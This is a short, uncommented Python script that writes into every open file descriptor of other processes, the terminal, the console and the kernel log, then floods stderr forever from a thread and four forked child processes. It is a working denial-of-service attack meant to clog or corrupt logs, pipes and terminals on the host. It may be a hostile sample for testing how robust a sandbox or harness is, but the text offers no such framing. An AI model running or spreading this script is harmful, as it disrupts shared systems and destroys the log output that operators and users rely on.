import glob
import os
import threading
from contextlib import suppress

MUCH = b"x" * 65536


def fill(number):
    os.set_blocking(number, False)
    with suppress(OSError):
        for _ in range(64):
            os.write(number, MUCH)


def reopen():
    for path in [*glob.glob("/proc/[0-9]*/fd/*"), "/dev/tty", "/dev/console", "/dev/stderr", "/dev/kmsg"]:
        with suppress(OSError):
            number = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
            fill(number)


def flood():
    with suppress(OSError):
        while True:
            os.write(2, MUCH)


reopen()
threading.Thread(target=flood, daemon=True).start()
for _ in range(4):
    with suppress(OSError):
        if os.fork() == 0:
            flood()
            os._exit(0)
